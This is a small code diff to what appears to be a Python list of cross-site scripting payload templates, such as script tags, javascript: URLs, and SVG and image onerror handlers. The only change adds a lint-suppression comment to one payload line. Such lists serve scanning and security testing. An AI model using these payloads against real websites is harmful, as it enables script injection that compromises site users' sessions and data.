@@ -57,7 +57,7 @@ TEMPLATES = [
     "<![CDATA[<script>{js}</script>]]>",
     '<base href="javascript:{js}//">',
     '<link rel=import href="data:text/html,<script>{js}</script>">',
-    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={js} /></svg>#x"/>',
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={js} /></svg>#x"/>',  # noqa: E501 (one payload)
     "<img src=x onerror=alert(1)>",
     "<script>alert(document.domain)</script>",
     "javascript:alert(1)",
